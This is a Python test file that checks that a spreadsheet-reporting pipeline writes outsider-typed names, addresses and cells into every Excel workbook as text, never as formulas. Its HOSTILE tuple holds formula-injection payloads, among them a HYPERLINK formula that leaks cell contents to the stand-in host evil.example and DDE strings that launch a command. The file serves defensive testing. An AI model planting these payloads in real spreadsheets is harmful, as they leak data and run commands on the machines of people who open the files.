"""What an outsider types stays text in every workbook Adal writes (#24 §1).

A registry's names, a director's name, an address and a school's typed cells reach the
templates, the correction workbooks, the consolidated workbook, the register (6.1), the
action plan (4.1) and the regional roll-up. Each is opened here as Excel would open it:
no cell carrying what was typed may be a formula, whatever the writer (openpyxl or
xlsxwriter) would have made of «=», «+», «-» or «@».
"""

from __future__ import annotations

import dataclasses
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.core.text import Text
from pipeline.specs.workspace import open_workspace
from pipeline.workbooks.registry import write_registry
from tests.helpers import fill, good_12, good_14

pytestmark = pytest.mark.slow  # every command, every workbook read back

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
MARKERS = ("evil.example", "calc", "SUM(1+1)")


def _hostile(orgs):
    """The registry as an outsider could fill it: names and addresses starting with a
    formula's first sign (a director's name is personal data: the publication refuses it)."""
    out = []
    for n, org in enumerate(orgs):
        bad = HOSTILE[n % len(HOSTILE)]
        out.append(
            dataclasses.replace(
                org,
                name=Text(f"{bad} {org.name.kk}", f"{bad} {org.name.ru}"),
                address=HOSTILE[(n + 1) % len(HOSTILE)],
            )
        )
    return out


def _formulas_from_input(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)  # formulas as written, not their values
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and any(m in str(cell.value) for m in MARKERS):
                    found.append(f"{path.name}!{sheet.title}!{cell.coordinate}: {cell.value}")
    book.close()
    return found


def test_what_an_outsider_typed_is_text_in_every_workbook_adal_writes(workspace, orgs, tmp_path):
    hostile = _hostile(orgs)
    write_registry(workspace.paths.registry_file, hostile, workspace.campaign.org_types)
    workspace = open_workspace(workspace.paths)
    root = ["--root", str(workspace.paths.root)]
    runner = CliRunner()
    assert runner.invoke(main, [*root, "templates"]).exit_code == 0
    typed = {**good_12(), "position": HOSTILE[0], "order_no": HOSTILE[1]}
    wrong = {**good_14(), "late": 50, "service": HOSTILE[2]}
    fill(workspace, workspace.organisations[0], {"1.2": [typed], "1.4": [wrong]}, "a.xlsx")
    fill(workspace, workspace.organisations[1], {"1.2": [typed]}, "b.xlsx")
    for command in (
        ["ingest"],
        ["consolidate"],
        ["report", "--signed", "2023-12-08"],
        ["export", "--parquet", str(tmp_path / "export")],
        ["rollup", str(tmp_path / "export"), "--out", str(tmp_path / "region.xlsx")],
    ):
        result = runner.invoke(main, [*root, *command])
        assert result.exit_code == 0, (command, result.output)
    written = sorted(
        p
        for p in [*workspace.paths.outbox.rglob("*.xlsx"), tmp_path / "region.xlsx"]
        if not p.name.startswith(".")
    )
    kinds = {p.parent.name for p in written}
    assert {"templates", "report", "outbox"} <= kinds | {"outbox"}
    assert any("(Қателер-Ошибки)" in p.name for p in written)  # a correction workbook
    assert any(p.name.startswith("consolidated") for p in written)
    assert any(p.name.startswith("6.1") for p in written) and any(
        p.name.startswith("4.1") for p in written
    )
    found = [f for path in written for f in _formulas_from_input(path)]
    assert found == []
    texts = 0
    for path in written:  # and what was typed is there, as text
        book = openpyxl.load_workbook(path)
        texts += sum(
            1
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "s" and any(m in str(cell.value) for m in MARKERS)
        )
        book.close()
    assert texts > len(written)
